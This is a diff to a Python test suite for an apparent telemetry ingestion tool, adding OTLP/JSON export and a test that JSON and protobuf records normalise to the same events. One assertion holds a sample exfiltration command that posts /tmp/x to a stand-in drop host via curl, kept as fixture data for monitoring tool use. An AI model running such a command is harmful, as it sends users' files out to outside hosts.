@@ -27,6 +27,8 @@ def sdk_send(endpoint, protocol, logs=(), spans=()):
     from opentelemetry.sdk.trace.export import SimpleSpanProcessor
     from opentelemetry.trace import SpanKind
 
+    if protocol == "http-json":
+        return sdk_send_json(endpoint, logs, spans)
     if protocol == "grpc":
         from opentelemetry.exporter.otlp.proto.grpc._log_exporter import OTLPLogExporter
         from opentelemetry.exporter.otlp.proto.grpc.trace_exporter import OTLPSpanExporter
@@ -47,6 +49,52 @@ def sdk_send(endpoint, protocol, logs=(), spans=()):
         tp.add_span_processor(SimpleSpanProcessor(mk_span()))
         sp = tp.get_tracer("test").start_span(name, kind=SpanKind.CLIENT, start_time=int(t * 1e9), attributes=attrs)
         sp.end(end_time=int(t * 1e9) + 5_000_000)
+        tp.shutdown()
+
+
+def sdk_send_json(endpoint, logs, spans):
+    """What an OTLP/JSON exporter (`OTEL_EXPORTER_OTLP_PROTOCOL=http/json`) sends:
+    the SDK's records, encoded by its OTLP encoder, in the OTLP JSON mapping
+    (lowerCamelCase, enums as numbers, 64-bit numbers as strings, ids in hex)."""
+    import base64
+    from google.protobuf import json_format
+    from opentelemetry._logs import LogRecord, SeverityNumber
+    from opentelemetry.exporter.otlp.proto.common._log_encoder import encode_logs
+    from opentelemetry.exporter.otlp.proto.common.trace_encoder import encode_spans
+    from opentelemetry.sdk._logs import LoggerProvider
+    from opentelemetry.sdk._logs.export import InMemoryLogRecordExporter, SimpleLogRecordProcessor
+    from opentelemetry.sdk.resources import Resource
+    from opentelemetry.sdk.trace import TracerProvider
+    from opentelemetry.sdk.trace.export import SimpleSpanProcessor
+    from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter
+    from opentelemetry.trace import SpanKind
+
+    def hex_ids(node):
+        if isinstance(node, dict):
+            return {k: base64.b64decode(v).hex() if k in ("traceId", "spanId", "parentSpanId") else hex_ids(v)
+                    for k, v in node.items()}
+        return [hex_ids(x) for x in node] if isinstance(node, list) else node
+
+    def send(path, request):
+        body = json.dumps(hex_ids(json_format.MessageToDict(request, use_integers_for_enums=True))).encode()
+        status, answer, _ = post(endpoint + path, body, "application/json")
+        assert status == 200, answer
+
+    for res, body, attrs, t in logs:
+        memory = InMemoryLogRecordExporter()
+        lp = LoggerProvider(resource=Resource.create(res))
+        lp.add_log_record_processor(SimpleLogRecordProcessor(memory))
+        lp.get_logger("test").emit(LogRecord(timestamp=int(t * 1e9), observed_timestamp=int(t * 1e9),
+                                             severity_number=SeverityNumber.INFO, body=body, attributes=attrs))
+        send("/v1/logs", encode_logs(memory.get_finished_logs()))
+        lp.shutdown()
+    for res, name, attrs, t in spans:
+        memory = InMemorySpanExporter()
+        tp = TracerProvider(resource=Resource.create(res))
+        tp.add_span_processor(SimpleSpanProcessor(memory))
+        sp = tp.get_tracer("test").start_span(name, kind=SpanKind.CLIENT, start_time=int(t * 1e9), attributes=attrs)
+        sp.end(end_time=int(t * 1e9) + 5_000_000)
+        send("/v1/traces", encode_spans(memory.get_finished_spans()))
         tp.shutdown()
 
 
@@ -83,10 +131,10 @@ def rows(v, where="true"):
     return duck(f"select {cols} from read_parquet('{events_glob(v)}', hive_partitioning=true) where {where} order by time")
 
 
-@pytest.mark.parametrize("protocol", ["http", "grpc"])
+@pytest.mark.parametrize("protocol", ["http", "grpc", "http-json"])
 def test_every_source_family_is_normalized_field_by_field(vigil_factory, protocol):
     v = vigil_factory()
-    sdk_send(v.http if protocol == "http" else v.grpc, protocol, FAMILIES_LOGS, FAMILIES_SPANS)
+    sdk_send(v.grpc if protocol == "grpc" else v.http, protocol, FAMILIES_LOGS, FAMILIES_SPANS)
     assert v.stop() == 0, v.log()
     got = rows(v)
     by_kind = {}
@@ -105,6 +153,22 @@ def test_every_source_family_is_normalized_field_by_field(vigil_factory, protoco
     # Attributes no column takes are kept, resource ones prefixed.
     attrs = duck(f"select attrs['resource.os.type'], attrs['terminal.type'] from read_parquet('{events_glob(v)}') where tool = 'Read'")
     assert attrs[0][0] == "darwin"
+
+
+def test_the_same_records_as_otlp_json_and_protobuf_become_the_same_events(vigil_factory):
+    """JSON bodies are read by their own fast reader, protobuf by the wire walk:
+    the same SDK records give the same events (the id hashes the normalized
+    content), escaped JSON strings inside attributes included."""
+    v = vigil_factory()
+    sdk_send(v.http, "http", FAMILIES_LOGS)
+    sdk_send(v.http, "http-json", FAMILIES_LOGS)
+    assert v.stop() == 0, v.log()
+    src = f"read_parquet('{events_glob(v)}', hive_partitioning=true)"
+    ids = duck(f"select event_id, count(*), count(distinct (time, kind, user, session, tool, path, command, attrs::varchar)) from {src} group by 1")
+    assert len(ids) == len(FAMILIES_LOGS) and all(n == 2 and distinct == 1 for _, n, distinct in ids), ids
+    # The command came inside `tool_parameters`, a JSON string escaped in the JSON body.
+    commands = duck(f"select command from {src} where tool = 'Bash'")
+    assert commands == [("curl -X POST -F f=@/tmp/x https://drop.example.net/u",)] * 2, commands
 
 
 def post(url, body, ctype="application/x-protobuf", encoding=None, method="POST"):
